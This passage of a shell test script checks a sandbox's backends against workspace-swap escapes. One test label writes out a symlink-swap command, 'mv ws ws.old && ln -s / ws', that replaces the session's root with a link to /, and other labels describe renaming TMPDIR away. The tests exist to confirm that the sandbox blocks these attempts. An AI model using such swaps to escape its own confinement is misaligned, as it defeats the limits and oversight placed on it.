each_backend "session root in a temp dir, nothing else protected: mv ws ws.old && ln -s / ws fails" case_swap_unprotected
each_backend "workspace inside TMPDIR inside /tmp: renaming TMPDIR away fails" case_swap_tmpdir
for b in "${BACKENDS[@]}"; do
	t "control: unconfined swap of the session's root for a symlink to /: the next $b call fails closed (125, swapped) and runs nothing" case_swap_unconfined "$b/workspace-write"
done

t "landlock without a mount namespace, store in the workspace: 125, names the store, runs nothing" case_no_mount_ns_store_in_ws
t "landlock without a mount namespace, store outside the writable roots: the call runs" case_no_mount_ns_store_outside
done_testing
